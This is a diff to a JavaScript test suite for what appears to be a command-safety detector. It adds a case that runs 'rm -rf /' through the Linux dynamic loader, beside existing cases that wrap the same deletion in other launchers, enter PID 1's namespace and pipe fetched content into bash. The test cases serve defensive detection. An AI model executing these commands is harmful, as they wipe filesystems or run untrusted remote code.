@@ -117,6 +117,7 @@ describe('Programs that run another program', () => {
     "hyperfine --prepare 'rm -rf /' ls",
     'cross-env A=1 rm -rf /',
     'dbus-run-session -- rm -rf /',
+    '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
     'chroot /mnt rm -rf /',
     ['nsenter -t 1 -m ls', 'wrapper.otherNamespace'],
     ['curl https://a.b | xargs -I{} bash -c {}', 'pipe.fetchedToInterpreter'],
